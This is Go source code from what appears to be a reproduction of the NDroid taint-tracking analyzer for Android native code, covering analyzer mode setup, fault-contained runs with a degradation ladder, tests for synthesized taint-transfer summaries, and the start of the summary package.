		// The native block gate is enabled per-mode: NDroid gets it
		// (installNDroid); the DroidScope baseline deliberately keeps
		// trace-everything semantics, and vanilla has no tracer to skip.
		sys.CPU.UseTaintGate = mode == ModeNDroid
	} else {
		sys.VM.GateJava = false
		sys.CPU.UseTaintGate = false
	}
	switch mode {
	case ModeVanilla:
		sys.VM.TaintJava = false
	case ModeTaintDroid:
		sys.VM.TaintJava = true
		a.hookJavaSink()
	case ModeNDroid:
		sys.VM.TaintJava = true
		a.hookJavaSink()
		a.installNDroid()
	case ModeDroidScope:
		sys.VM.TaintJava = true
		a.hookJavaSink()
		a.installDroidScope()
	}
	return a
}

// seedSurface records every native method already bound at analyzer attach
// time (install runs before NewAnalyzer) as a static registration, in sorted
// class order so the seeded map is deterministic.
func (a *Analyzer) seedSurface() {
	vm := a.Sys.VM
	for _, name := range vm.Classes() {
		c, ok := vm.Class(name)
		if !ok {
			continue
		}
		for _, m := range c.Methods {
			if m.IsNative() && m.NativeAddr != 0 {
				a.Surface.Register(m.FullName(), false, 0, m.NativeAddr)
			}
		}
	}
}

// DisableSurface detaches the surface observer (AnalyzeOptions.Surface =
// SurfaceOff): the ablation baseline proving the observer never perturbs
// execution, verdicts, or flow logs.
func (a *Analyzer) DisableSurface() {
	a.Surface = nil
	a.Sys.VM.OnJNICall = nil
	a.Sys.VM.OnNativeBind = nil
	a.Sys.VM.OnReflectCall = nil
	// The code-write callback is shared with summary eviction; rewire rather
	// than nil it so disabling the observer cannot drop eviction.
	a.wireCodeWrite()
}

// crossingClean reports that a JNI crossing may skip its taint walks
// entirely: the gate is on, no counted taint exists in any layer (memory
// bytes, reference shadow entries, the Java-side latch), and the CPU's
// shadow registers are all clear — so every walk input is provably zero.
func (a *Analyzer) crossingClean() bool {
	return a.Live != nil && a.Live.Total() == 0 && a.Sys.CPU.TaintedRegs() == 0
}

// hookJavaSink collects TaintDroid's Java-context sink reports.
func (a *Analyzer) hookJavaSink() {
	a.Sys.VM.JavaLeakFn = func(l dvm.JavaLeak) {
		a.Leaks = append(a.Leaks, Leak{
			Sink: l.Sink, Dest: l.Dest, Tag: l.Tag,
			Data: []byte(l.Data), Context: "java",
		})
		a.Log.Addf("JavaSink[%s] dest=%s taint=%v", l.Sink, l.Dest, l.Tag)
	}
}

// installNDroid wires all five engines.
func (a *Analyzer) installNDroid() {
	vm := a.Sys.VM
	cpu := a.Sys.CPU

	// Cache the native-code range once; the VMI walk is the authoritative
	// source but too slow to run per branch event.
	lo, hi := a.nativeRangeFromVMI()
	inNative := func(addr uint32) bool { return addr >= lo && addr < hi }

	// Taint engine follows GC moves.
	vm.OnGCMove = a.Engine.OnGCMove

	// Multilevel hooking over the branch stream; the instruction tracer over
	// the instruction stream.
	a.ML = NewMultilevel(vm, inNative)
	a.ML.BindCPU(cpu)
	cpu.BranchFn = func(_ *arm.CPU, from, to uint32) { a.ML.OnBranch(from, to) }

	a.Tracer = NewTracer(a.Engine)
	a.Tracer.InRange = inNative
	cpu.Tracer = a.Tracer
	cpu.UseDecodeCache = true
	cpu.UseBlockCache = true

	a.installDVMHooks()
	a.installSysLib()
}

// nativeRangeFromVMI finds the third-party native code range by parsing the
// guest task list, as NDroid's reconstructor does (§V-F, §V-G).
func (a *Analyzer) nativeRangeFromVMI() (uint32, uint32) {
	task, ok := a.Recon.FindTask(a.Sys.Task.Comm)
	if !ok {
		return 0, 0
	}
	lo, hi := ^uint32(0), uint32(0)
	for _, v := range task.VMAs {
		if strings.HasPrefix(v.Name, "/data/app-lib/") {
			if v.Start < lo {
				lo = v.Start
			}
			if v.End > hi {
				hi = v.End
			}
		}
	}
	if hi == 0 {
		return 0, 0
	}
	return lo, hi
}

// installDroidScope configures the DroidScope-style baseline: trace every
// instruction everywhere (no selective range, no modeled libc), and pay a
// VMI reconstruction walk on every interpreted Dalvik instruction.
func (a *Analyzer) installDroidScope() {
	cpu := a.Sys.CPU
	a.Tracer = NewTracer(a.Engine)
	a.Tracer.InRange = nil // whole system
	cpu.Tracer = a.Tracer
	cpu.UseDecodeCache = true
	cpu.UseBlockCache = true

	vm := a.Sys.VM
	// Installing the observer also bumps the VM's translation epoch, so every
	// Dalvik method drops back to the per-instruction interpreter — DroidScope
	// pays the full reconstruction cost by construction.
	vm.SetJavaStepFn(func(th *dvm.Thread, m *dex.Method, pc int, insn *dex.Insn) {
		// Reconstruct the Dalvik-level view from raw guest memory: walk the
		// task list to find the process, then read the current frame's save
		// area — the work DroidScope re-derives from machine state (§II, §V-F).
		a.javaVMIWalks++
		if f := th.CurrentFrame(); f != nil {
			_ = a.Sys.Mem.Read32(f.FP + uint32(8*m.NumRegs)) // prev frame ptr
			_ = a.Sys.Mem.Read32(a.Recon.InitTaskAddr)       // task list head
		}
	})
}

// report records a native-context leak.
func (a *Analyzer) report(sink, dest string, tag taint.Tag, data []byte) {
	if tag == 0 {
		return
	}
	a.Leaks = append(a.Leaks, Leak{
		Sink: sink, Dest: dest, Tag: tag,
		Data: append([]byte(nil), data...), Context: "native",
	})
	a.Log.Addf("SinkHandler[%s] dest=%s taint=%v data=%q", sink, dest, tag, truncate(data))
}

func truncate(b []byte) string {
	s := string(b)
	if len(s) > 80 {
		return s[:77] + "..."
	}
	return s
}

// VMIWalks reports how many per-instruction semantic reconstructions the
// DroidScope mode performed.
func (a *Analyzer) VMIWalks() uint64 { return a.javaVMIWalks }

// LeaksAt returns leaks that reached the given sink.
func (a *Analyzer) LeaksAt(sink string) []Leak {
	var out []Leak
	for _, l := range a.Leaks {
		if l.Sink == sink {
			out = append(out, l)
		}
	}
	return out
}

// Detected reports whether any leak carrying the tag was found.
func (a *Analyzer) Detected(tag taint.Tag) bool {
	for _, l := range a.Leaks {
		if l.Tag&tag != 0 {
			return true
		}
	}
	return false
}

// fdDesc describes a descriptor for sink reports.
func (a *Analyzer) fdDesc(fd int32) string {
	return a.Sys.Kern.FDDesc(a.Sys.Task, fd)
}
