package core

import (
	"fmt"

	"repro/internal/fault"
	"repro/internal/static"
	"repro/internal/summary"
	"repro/internal/surface"
	"repro/internal/taint"
)

// Injection sites owned by the core layer. SiteSysLibModel sits inside the
// System Lib Hook Engine's modeled-call wrapper, which only exists under
// NDroid — so an injected fault there genuinely disappears one rung down the
// degradation ladder. SiteTracerInsn sits inside the instruction tracer, on
// both the dynamic dispatch path and (when arming predates translation) the
// bound per-instruction closures.
const (
	SiteSysLibModel = "core.syslib.model"
	SiteTracerInsn  = "core.tracer.insn"
)

func init() {
	fault.RegisterSite(SiteSysLibModel, "core")
	fault.RegisterSite(SiteTracerInsn, "core")
}

// DefaultBudget is the per-run watchdog budget (Java instructions, and native
// instructions per JNI call) when Analyzer.Budget is zero. Deterministic
// instruction counts, never wall-clock, so a run that times out does so
// identically on every machine.
const DefaultBudget = 16 << 20

// Verdict is the structured outcome of one contained analysis run.
type Verdict int

// The verdict lattice: every run lands on exactly one of these.
const (
	// VerdictClean: the run completed and no tainted data reached a sink.
	VerdictClean Verdict = iota + 1
	// VerdictLeak: the run completed and at least one leak was detected.
	VerdictLeak
	// VerdictFault: the guest faulted (or an internal invariant tripped) and
	// the run was abandoned with its partial flow log.
	VerdictFault
	// VerdictTimeout: a watchdog instruction budget ran out.
	VerdictTimeout
)

var verdictNames = map[Verdict]string{
	VerdictClean:   "clean",
	VerdictLeak:    "leak",
	VerdictFault:   "fault",
	VerdictTimeout: "timeout",
}

// String names the verdict.
func (v Verdict) String() string {
	if s, ok := verdictNames[v]; ok {
		return s
	}
	return fmt.Sprintf("Verdict(%d)", int(v))
}

// VerdictFromName resolves a verdict by its String name (see ModeFromName).
func VerdictFromName(name string) (Verdict, bool) {
	for v, n := range verdictNames {
		if n == name {
			return v, true
		}
	}
	return 0, false
}

// verdictForFault maps a fault to its verdict: budget exhaustion (including
// guest heap exhaustion, which is a space budget) is a timeout; everything
// else is a fault.
func verdictForFault(f *fault.Fault) Verdict {
	if f.Kind == fault.BudgetExceeded {
		return VerdictTimeout
	}
	return VerdictFault
}

// RunResult is the outcome of one Analyzer.Run: the verdict, the fault (for
// Fault/Timeout verdicts), and the partial evidence gathered up to the stop
// point — leaks seen, flow-log lines, and how much guest work ran.
type RunResult struct {
	Verdict Verdict
	Fault   *fault.Fault // nil for Clean/Leak

	// Thrown reports an uncaught Java exception. That is guest-visible
	// behavior, not an analyzer fault: the run still completes (Clean/Leak).
	Thrown bool

	Leaks    []Leak
	LogLines []string

	JavaInsns   uint64 // Dalvik instructions retired by this run
	NativeInsns uint64 // ARM instructions retired by this run

	// Trace-fusion activity: JNI crossings retired, fused chains built,
	// crossings served by a fused chain, and chains dropped by deopt. All
	// zero when the run had fusion off.
	JNICrossings uint64
	FusedChains  uint64
	FusedCalls   uint64
	FuseDeopts   uint64

	// Surface is the JNI surface map gathered by this attempt (nil when the
	// observer was disabled). It is captured in the same deferred block as
	// the other evidence, so Fault/Timeout verdicts keep the partial map
	// built up to the stop point. Surface.Truncated is the typed,
	// verdict-visible degradation signal for event-budget exhaustion.
	Surface *surface.Map

	// PinsVoided / PinPagesVoided count static clean-pins dropped mid-run
	// because a dynamic RegisterNatives swap invalidated the binding they
	// were derived from.
	PinsVoided     int
	PinPagesVoided int

	// Static is the pre-analysis result for this attempt (nil when the
	// pre-analysis was off). StaticViolations holds cross-validation
	// failures: dynamic flow-log events outside the static reach sets.
	// A non-empty list is a soundness bug in the pre-analysis.
	Static           *static.Result
	StaticViolations []string

	// Auto-generated native taint summary activity (all zero/nil with
	// summaries off). TracedInsns is the tracer's handler-invocation count —
	// the quantity an accepted summary removes (the cfbench ablation asserts
	// the ≥5x reduction against it); SummariesVoided counts summary states
	// dropped by RegisterNatives churn or code writes; SummaryApplied counts
	// crossings served by a transfer; SummaryRejections records transfers
	// demoted by mutation validation; Summary is the per-library table.
	TracedInsns       uint64
	SummariesVoided   int
	SummaryApplied    uint64
	SummaryRejections []summary.Rejection
	Summary           []summary.LibReport
}

// Run invokes the entry point under full fault containment and classifies
// the outcome. Guest faults arriving on the error path and host panics
// arriving through recover both land in the same *fault.Fault taxonomy; the
// partial flow log and leak list survive in every case, so a market study
// keeps the evidence gathered before a hostile app blew up.
//
// The watchdog is armed here: the VM gets an absolute Java-instruction
// ceiling of (already-retired + budget) and a per-JNI-call native budget.
func (a *Analyzer) Run(class, method string, args []uint32, taints []taint.Tag) (res RunResult) {
	budget := a.Budget
	if budget == 0 {
		budget = DefaultBudget
	}
	vm := a.Sys.VM
	vm.JavaBudget = vm.JavaInsnCount + budget
	vm.NativeBudget = budget
	startJava := vm.JavaInsnCount
	startNative := a.Sys.CPU.InsnCount
	startCross := vm.JNICrossings
	startChains := vm.JavaFusedChains
	startFused := vm.JavaFusedCalls
	startDeopts := vm.JavaFuseDeopts
	defer func() {
		if r := recover(); r != nil {
			res.Fault = fault.FromPanic("core", r)
			res.Verdict = verdictForFault(res.Fault)
		}
		res.Leaks = append([]Leak(nil), a.Leaks...)
		res.LogLines = append([]string(nil), a.Log.Lines...)
		res.JavaInsns = vm.JavaInsnCount - startJava
		res.NativeInsns = a.Sys.CPU.InsnCount - startNative
		res.JNICrossings = vm.JNICrossings - startCross
		res.FusedChains = vm.JavaFusedChains - startChains
		res.FusedCalls = vm.JavaFusedCalls - startFused
		res.FuseDeopts = vm.JavaFuseDeopts - startDeopts
		res.Surface = a.Surface.Map()
		res.PinsVoided = a.PinsVoided
		res.PinPagesVoided = a.PinPagesVoided
		if a.Tracer != nil {
			res.TracedInsns = a.Tracer.Traced
		}
		res.SummariesVoided = a.SummariesVoided
		res.SummaryApplied = a.SummaryApplied
		res.SummaryRejections = append([]summary.Rejection(nil), a.SummaryRejections...)
		res.Summary = a.summaryReport()
		vm.JavaBudget, vm.NativeBudget = 0, 0
	}()

	_, _, thrown, err := vm.InvokeByName(class, method, args, taints)
	if err != nil {
		res.Fault = fault.AsFault(err, "core")
		res.Verdict = verdictForFault(res.Fault)
		return res
	}
	res.Thrown = thrown != nil
	if len(a.Leaks) > 0 {
		res.Verdict = VerdictLeak
	} else {
		res.Verdict = VerdictClean
	}
	return res
}

// AppSpec is the core-level description of one analyzable app: how to load
// it into a fresh System and where to enter. The apps package adapts its
// registry entries to this shape.
type AppSpec struct {
	Name        string
	EntryClass  string
	EntryMethod string
	Install     func(sys *System) error
}

// FuseMode selects whether hot JNI crossing chains compile to fused closures.
type FuseMode int

// Fusion settings for AnalyzeOptions.Fuse.
const (
	// FuseDefault follows the analyzer default (fusion on).
	FuseDefault FuseMode = iota
	// FuseOn forces trace fusion on.
	FuseOn
	// FuseOff disables trace fusion: every crossing takes the unfused bridge.
	// The ablation/parity baseline.
	FuseOff
)

// SurfaceMode selects how the JNI surface observer runs.
type SurfaceMode int

// Surface settings for AnalyzeOptions.Surface.
const (
	// SurfaceDefault follows the analyzer default (observer on, throttled).
	SurfaceDefault SurfaceMode = iota
	// SurfaceOn forces the observer on with throttling.
	SurfaceOn
	// SurfaceOff detaches the observer entirely: the ablation baseline the
	// parity suites compare against (verdicts and flow logs must be
	// byte-identical with the observer on).
	SurfaceOff
	// SurfaceUnthrottled keeps the observer on but disables count bucketing:
	// every crossing attempts an event. The flood baseline a RASP app
	// demonstrably blows the event budget with.
	SurfaceUnthrottled
)

// applySurface configures a freshly built analyzer per the surface option.
func applySurface(a *Analyzer, m SurfaceMode) {
	switch m {
	case SurfaceOff:
		a.DisableSurface()
	case SurfaceUnthrottled:
		a.Surface.Throttle = false
	}
}

// AnalyzeOptions configures AnalyzeApp.
type AnalyzeOptions struct {
	// Mode is the starting analysis mode (default ModeNDroid).
	Mode Mode
	// Fuse controls cross-boundary trace fusion (default: on).
	Fuse FuseMode
	// Surface controls the JNI surface observer (default: on, throttled).
	Surface SurfaceMode
	// Budget overrides DefaultBudget when nonzero.
	Budget uint64
	// FlowLog enables flow-log capture on every attempt.
	FlowLog bool
	// InternalRetries bounds same-mode retries after an InternalError fault
	// (a contained host bug may be transient state corruption; one fresh
	// System is worth trying). Negative disables; zero means the default 1.
	InternalRetries int
	// Static selects the pre-analysis level: off, lint (diagnose only), or
	// pin (also seed taint-reachability pins into the dynamic engines). The
	// pre-analysis runs per attempt — pins are keyed against the attempt's
	// fresh System, so degradation retries re-seed them from scratch.
	Static static.Level
	// Summaries selects how auto-generated native taint summaries are used:
	// off (default; trace everything), static (trust sound transfers), or
	// validated (additionally require mutation validation). Flow logs and
	// verdicts are byte-identical across settings; only the traced
	// instruction count changes.
	Summaries SummaryMode
	// Runner, when set, serves attempts from its snapshot-restored System
	// instead of booting a fresh one per attempt (and re-seeds static pins
	// from its digest cache). Verdicts and flow logs are byte-identical to
	// the fresh-System path; only the reset cost changes.
	Runner *Runner
}

// Attempt records one run of the degradation ladder.
type Attempt struct {
	Mode   Mode
	Result RunResult
}

// AppReport is the per-app outcome: the final attempt plus the full chain
// (mode-degradation steps and internal retries, in order).
type AppReport struct {
	Name     string
	Final    Attempt
	Chain    []Attempt
	Degraded bool // true when any mode-degradation step was taken
}

// Verdict is the final attempt's verdict.
func (r *AppReport) Verdict() Verdict { return r.Final.Result.Verdict }

// ChainString renders the degradation chain, e.g.
// "ndroid:fault -> taintdroid:fault -> vanilla:clean".
func (r *AppReport) ChainString() string {
	s := ""
	for i, att := range r.Chain {
		if i > 0 {
			s += " -> "
		}
		s += att.Mode.String() + ":" + att.Result.Verdict.String()
	}
	return s
}

// modeDown returns the next rung of the degradation ladder: full NDroid
// degrades to TaintDroid-only (no native engines), which degrades to vanilla
// execution (no taint tracking at all). Vanilla and the DroidScope baseline
// have nowhere to go.
func modeDown(m Mode) (Mode, bool) {
	switch m {
	case ModeNDroid:
		return ModeTaintDroid, true
	case ModeTaintDroid:
		return ModeVanilla, true
	default:
		return 0, false
	}
}

// AnalyzeApp runs one app under per-app isolation: every attempt gets a
// fresh System (nothing survives a faulting run), and the outcome decides
// the next rung:
//
//   - A Fault raised by the native-side analysis layers ("arm", "core" —
//     the tracer, syslib models, and CPU only run under the heavier modes)
//     degrades one mode down and retries, recording the chain. The app may
//     still complete — with weaker coverage — when the fault was confined
//     to instrumentation the lower mode does not install.
//   - An InternalError gets one bounded same-mode retry on a fresh System.
//   - Timeouts and dvm/dex-layer faults are properties of the guest program
//     itself; no lower mode would change them, so they are final.
func AnalyzeApp(spec AppSpec, opts AnalyzeOptions) AppReport {
	mode := opts.Mode
	if mode == 0 {
		mode = ModeNDroid
	}
	internalLeft := opts.InternalRetries
	if internalLeft == 0 {
		internalLeft = 1
	} else if internalLeft < 0 {
		internalLeft = 0
	}

	rep := AppReport{Name: spec.Name}
	for {
		var res RunResult
		if opts.Runner != nil {
			res = opts.Runner.analyzeOnce(spec, mode, opts)
		} else {
			res = analyzeOnce(spec, mode, opts)
		}
		att := Attempt{Mode: mode, Result: res}
		rep.Chain = append(rep.Chain, att)
		rep.Final = att

		if res.Verdict == VerdictFault && res.Fault != nil {
			if res.Fault.Kind == fault.InternalError && internalLeft > 0 {
				internalLeft--
				continue
			}
			if res.Fault.Layer == "arm" || res.Fault.Layer == "core" {
				if down, ok := modeDown(mode); ok {
					mode = down
					rep.Degraded = true
					continue
				}
			}
		}
		return rep
	}
}

// analyzeOnce boots a fresh System, installs the app, and runs it contained.
// Panics escaping any stage (System construction, class loading, native-lib
// assembly) are converted to faults here, so a hostile app can never take
// the study process down.
func analyzeOnce(spec AppSpec, mode Mode, opts AnalyzeOptions) (res RunResult) {
	defer func() {
		if r := recover(); r != nil {
			res.Fault = fault.FromPanic("core", r)
			res.Verdict = verdictForFault(res.Fault)
		}
	}()
	sys, err := NewSystem()
	if err != nil {
		f := fault.AsFault(err, "core")
		return RunResult{Verdict: verdictForFault(f), Fault: f}
	}
	if err := spec.Install(sys); err != nil {
		f := fault.AsFault(err, "core")
		return RunResult{Verdict: verdictForFault(f), Fault: f}
	}
	a := NewAnalyzer(sys, mode)
	a.Budget = opts.Budget
	a.Log.Enabled = opts.FlowLog
	if opts.Fuse == FuseOff {
		sys.VM.FuseNative = false
	}
	applySurface(a, opts.Surface)
	if opts.Summaries != SummaryOff {
		a.EnableSummaries(opts.Summaries, nil)
	}

	var sr *static.Result
	if opts.Static != static.Off {
		sr = static.Analyze(sys.VM, spec.EntryClass, spec.EntryMethod)
		if opts.Static == static.PinLevel {
			// Pins attach to this attempt's System (method pointers, CPU page
			// set); a degradation retry boots a fresh System and re-runs this.
			sr.Apply(sys.VM)
		}
	}

	res = a.Run(spec.EntryClass, spec.EntryMethod, nil, nil)
	if sr != nil {
		res.Static = sr
		if opts.FlowLog {
			res.StaticViolations = sr.CrossValidate(res.LogLines)
		}
	}
	return res
}
