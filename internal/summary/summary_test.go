package summary_test

import (
	"testing"

	"repro/internal/arm"
	"repro/internal/static"
	"repro/internal/summary"
	"repro/internal/taint"
)

// buildCFG assembles a library and builds its CFG with every Java_ label as
// an entry, mirroring what core's summary path derives from bound natives.
func buildCFG(t *testing.T, src string, entries ...string) (*static.NativeCFG, map[string]uint32) {
	t.Helper()
	extern := map[string]uint32{"strlen": 0x7f000040, "malloc": 0x7f000050}
	prog, err := arm.Assemble(src, 0x40000000, extern)
	if err != nil {
		t.Fatalf("assemble: %v", err)
	}
	byAddr := map[uint32]string{}
	for name, addr := range extern {
		byAddr[addr] = name
	}
	ents := map[uint32]string{}
	addrs := map[string]uint32{}
	for _, e := range entries {
		a, err := prog.Label(e)
		if err != nil {
			t.Fatal(err)
		}
		ents[a&^1] = e
		addrs[e] = a &^ 1
	}
	cfg := static.BuildNativeCFG(prog, ents, func(a uint32) (string, bool) {
		n, ok := byAddr[a]
		return n, ok
	})
	return cfg, addrs
}

func synthOne(t *testing.T, src, entry string) *summary.Transfer {
	t.Helper()
	cfg, addrs := buildCFG(t, src, entry)
	tr := summary.SynthesizeLib(cfg, false)[addrs[entry]]
	if tr == nil {
		t.Fatalf("no transfer for %s", entry)
	}
	return tr
}

func TestSynthesizePureALULoop(t *testing.T) {
	tr := synthOne(t, `
Java_mix:
	MOV R0, R2
	MOV R12, #150
loop:
	ADD R0, R0, #3
	EOR R0, R0, R2
	SUB R12, R12, #1
	CMP R12, #0
	BNE loop
	BX LR
`, "Java_mix")
	if !tr.Sound {
		t.Fatalf("unsound: %s", tr.Reason)
	}
	if tr.Rows[0] != summary.DepIn2 {
		t.Errorf("Rows[0] = %v, want {in2}", tr.Rows[0])
	}
	if !tr.Acceptable(false) {
		t.Error("exact arg-only transfer must be acceptable")
	}
	if tr.Insns == 0 {
		t.Error("body size not recorded")
	}
}

func TestSynthesizeConditionalPathsJoin(t *testing.T) {
	// Value-dependent gate: one path returns the argument, the other a
	// constant. The May join must claim {in2} — over-approximate, exactly
	// what mutation validation exists to demote.
	tr := synthOne(t, `
Java_gate:
	CMP R2, #0
	BEQ zero
	MOV R0, R2
	BX LR
zero:
	MOV R0, #0
	BX LR
`, "Java_gate")
	if !tr.Sound {
		t.Fatalf("unsound: %s", tr.Reason)
	}
	if tr.Rows[0] != summary.DepIn2 {
		t.Errorf("Rows[0] = %v, want May-join {in2}", tr.Rows[0])
	}
}

func TestSynthesizeConditionalALUMayUnion(t *testing.T) {
	// A conditionally-executed move must union, not replace: the tracer
	// skips the handler when the condition fails, so the old dep survives.
	tr := synthOne(t, `
Java_sel:
	MOV R0, R3
	CMP R2, #0
	MOVEQ R0, R2
	BX LR
`, "Java_sel")
	if !tr.Sound {
		t.Fatalf("unsound: %s", tr.Reason)
	}
	if tr.Rows[0] != summary.DepIn2|summary.DepIn3 {
		t.Errorf("Rows[0] = %v, want {in2,in3}", tr.Rows[0])
	}
}

func TestSynthesizeCalleeComposition(t *testing.T) {
	tr := synthOne(t, `
Java_fold:
	MOV R1, LR
	MOV R0, R2
	BL step
	MOV LR, R1
	BX LR

step:
	ADD R0, R0, #7
	BX LR
`, "Java_fold")
	if !tr.Sound {
		t.Fatalf("unsound: %s", tr.Reason)
	}
	if tr.Rows[0] != summary.DepIn2 {
		t.Errorf("Rows[0] = %v, want {in2} through the callee", tr.Rows[0])
	}
}

func TestSynthesizeOtherLeaksIntoReturn(t *testing.T) {
	// Returning a callee-saved register's entry value depends on OTHER:
	// sound to synthesize, but never acceptable.
	tr := synthOne(t, `
Java_steal:
	MOV R0, R4
	BX LR
`, "Java_steal")
	if !tr.Sound {
		t.Fatalf("unsound: %s", tr.Reason)
	}
	if tr.Rows[0]&summary.DepOther == 0 {
		t.Errorf("Rows[0] = %v, want OTHER bit", tr.Rows[0])
	}
	if tr.Acceptable(false) {
		t.Error("OTHER-dependent row must not be acceptable")
	}
}

func TestSynthesizeUnsoundConstructs(t *testing.T) {
	cases := []struct {
		name, src, reason string
	}{
		{"memory", `
Java_ld:
	LDR R0, [R2]
	BX LR
`, "memory"},
		{"extern-call", `
Java_ext:
	MOV R1, LR
	BL strlen
	MOV LR, R1
	BX LR
`, "extern-call:strlen"},
		{"syscall", `
Java_svc:
	SVC #0
	BX LR
`, "syscall"},
		{"indirect", `
Java_ind:
	BX R2
`, "indirect-branch"},
	}
	for _, c := range cases {
		c := c
		t.Run(c.name, func(t *testing.T) {
			tr := synthOne(t, c.src, "Java_"+map[string]string{
				"memory": "ld", "extern-call": "ext", "syscall": "svc", "indirect": "ind",
			}[c.name])
			if tr.Sound {
				t.Fatal("want unsound")
			}
			if tr.Reason != c.reason {
				t.Errorf("reason = %q, want %q", tr.Reason, c.reason)
			}
			if tr.Acceptable(false) {
				t.Error("unsound transfer must not be acceptable")
			}
		})
	}
}

func TestSynthesizeCalleeWritesSavedReg(t *testing.T) {
	tr := synthOne(t, `
Java_bad:
	MOV R1, LR
	BL clobber
	MOV LR, R1
	BX LR

clobber:
	MOV R4, #1
	BX LR
`, "Java_bad")
	if tr.Sound {
		t.Fatal("want unsound: callee writes a callee-saved register")
	}
	if tr.Reason != "callee-writes-saved-reg" {
		t.Errorf("reason = %q", tr.Reason)
	}
}

func TestSynthesizeChurnPoisonsLib(t *testing.T) {
	cfg, addrs := buildCFG(t, `
Java_mix:
	MOV R0, R2
	BX LR
`, "Java_mix")
	tr := summary.SynthesizeLib(cfg, true)[addrs["Java_mix"]]
	if tr == nil || tr.Sound || tr.Reason != "registernatives-churn" {
		t.Fatalf("churned synthesis = %+v, want unsound registernatives-churn", tr)
	}
}

func TestDepApply(t *testing.T) {
	args := [summary.NumArgCells]taint.Tag{0x1, 0x2, 0x4, 0x8}
	if got := (summary.DepIn0 | summary.DepIn2).Apply(args); got != 0x5 {
		t.Errorf("Apply = %#x, want 0x5", got)
	}
	if got := summary.Dep(0).Apply(args); got != 0 {
		t.Errorf("empty dep Apply = %#x, want 0", got)
	}
}

func TestMutationsPlan(t *testing.T) {
	mu := summary.Mutations([]uint32{0x100, 0x200, 7})
	// baseline + (^v, 0) per present arg.
	if len(mu) != 1+3*2 {
		t.Fatalf("plan length %d, want 7", len(mu))
	}
	if mu[0].Index != -1 {
		t.Errorf("first mutation %+v, want baseline (Index -1)", mu[0])
	}
	seen := map[int]int{}
	for _, m := range mu[1:] {
		seen[m.Index]++
	}
	for i := 0; i < 3; i++ {
		if seen[i] != 2 {
			t.Errorf("arg %d mutated %d times, want 2", i, seen[i])
		}
	}
	// More CPU args than cells: the plan caps at the modeled cells.
	mu = summary.Mutations([]uint32{1, 2, 3, 4, 5, 6})
	if len(mu) != 1+summary.NumArgCells*2 {
		t.Errorf("capped plan length %d, want %d", len(mu), 1+summary.NumArgCells*2)
	}
}

func TestObservedDep(t *testing.T) {
	if got := summary.ObservedDep(0); got != 0 {
		t.Errorf("clean = %v", got)
	}
	if got := summary.ObservedDep(summary.ProbeTag(0) | summary.ProbeTag(3)); got != summary.DepIn0|summary.DepIn3 {
		t.Errorf("probes = %v, want {in0,in3}", got)
	}
	if got := summary.ObservedDep(summary.SentinelTag); got&summary.DepOther == 0 {
		t.Errorf("sentinel = %v, want OTHER", got)
	}
	if got := summary.ObservedDep(taint.Tag(1)); got&summary.DepOther == 0 {
		t.Errorf("foreign taint = %v, want OTHER", got)
	}
}

func TestPortableRoundTrip(t *testing.T) {
	cfg, addrs := buildCFG(t, `
Java_mix:
	MOV R0, R2
	BX LR

Java_ld:
	LDR R0, [R2]
	BX LR
`, "Java_mix", "Java_ld")
	orig := summary.SynthesizeLib(cfg, false)
	back := summary.Rehydrate(summary.Export(orig))
	if len(back) != len(orig) {
		t.Fatalf("round trip lost functions: %d vs %d", len(back), len(orig))
	}
	for entry, o := range orig {
		r := back[entry]
		if r == nil {
			t.Fatalf("entry %#x missing after round trip", entry)
		}
		if r.Sound != o.Sound || r.Reason != o.Reason || r.Rows != o.Rows ||
			r.Name != o.Name || r.Insns != o.Insns || r.Entry != o.Entry {
			t.Errorf("entry %#x: %+v != %+v", entry, r, o)
		}
		if r.Acceptable(false) != o.Acceptable(false) {
			t.Errorf("entry %#x: acceptability changed across round trip", entry)
		}
	}
	_ = addrs
}
