// Package summary synthesizes taint-transfer summaries for third-party
// native functions, μDep-style: a static inter-procedural dataflow over each
// function's NativeCFG derives which output cells (r0/r1 on return) depend on
// which abstract input cells (the r0–r3 argument registers, or anything else
// — callee-saved registers, stack, memory — lumped into one OTHER cell), and
// a mutation-based dynamic validation pass (internal/core) confirms the
// derived transfer before the hook engine trusts it to replace instruction-
// level tracing.
//
// The synthesis mirrors the dynamic tracer's Table V rules *exactly* — the
// soundness bar is byte-identical flow logs with summaries on and off, so a
// summary may only be applied when the static transfer provably computes the
// same return-register taints the tracer would have. Any construct the
// mirror cannot reproduce (memory access, syscalls, extern callees whose
// models log or read mid-call taint state, indirect control flow, functions
// rebound by RegisterNatives churn) makes the function Unsound and leaves it
// on the full-tracing path. Conditionally-executed instructions are folded
// with a May-union — the tracer skips the handler when the condition fails —
// which over-approximates value-dependent transfers; the validation pass
// demotes exactly those.
package summary

import (
	"fmt"
	"sort"

	"repro/internal/arm"
	"repro/internal/static"
	"repro/internal/taint"
)

// Dep is a set of abstract input cells, bit-encoded: bits 0–3 are the entry
// values of r0–r3 (the JNI bridge zeroes their shadow taints and the source
// policy re-seeds them from the Java argument taints, so they are the only
// precisely-known inputs), and bit 4 is OTHER — every other entry register
// (r4–r15 keep whatever shadow taint the surrounding execution left), stack
// slots, and memory.
type Dep uint8

// Input cells.
const (
	DepIn0 Dep = 1 << iota
	DepIn1
	DepIn2
	DepIn3
	DepOther
)

// NumArgCells is how many precise register-argument cells exist.
const NumArgCells = 4

// String renders a dep set like "{in0,in2}".
func (d Dep) String() string {
	s := "{"
	sep := ""
	for i := 0; i < NumArgCells; i++ {
		if d&(1<<uint(i)) != 0 {
			s += fmt.Sprintf("%sin%d", sep, i)
			sep = ","
		}
	}
	if d&DepOther != 0 {
		s += sep + "other"
	}
	return s + "}"
}

// Apply folds concrete argument taints through the dep set. The caller must
// have checked the set is OTHER-free (Acceptable) — an OTHER bit here would
// mean the output depends on state the bridge does not model.
func (d Dep) Apply(args [NumArgCells]taint.Tag) taint.Tag {
	var t taint.Tag
	for i := 0; i < NumArgCells; i++ {
		if d&(1<<uint(i)) != 0 {
			t |= args[i]
		}
	}
	return t
}

// Transfer is one function's synthesized taint summary: the dependence of the
// return registers on the input cells, plus the soundness verdict of the
// static pass.
type Transfer struct {
	Entry uint32 // function entry (bit 0 clear)
	Name  string
	Insns int // body size: the per-crossing traced work a summary replaces

	// Sound reports that every instruction reachable in the function (and in
	// its composed local callees) was mirrored exactly; Reason names the first
	// unsupported construct otherwise.
	Sound  bool
	Reason string

	// Rows are the exit dependence sets of r0 and r1 — the only registers the
	// JNI bridge reads back (r1 only for wide returns; every other register
	// taint is restored from the pre-crossing snapshot).
	Rows [2]Dep

	// regs is the full exit state (dep set per register) and writes the
	// syntactic may-write mask — both needed to compose this function into a
	// caller at a BL site, neither needed after synthesis.
	regs   [16]Dep
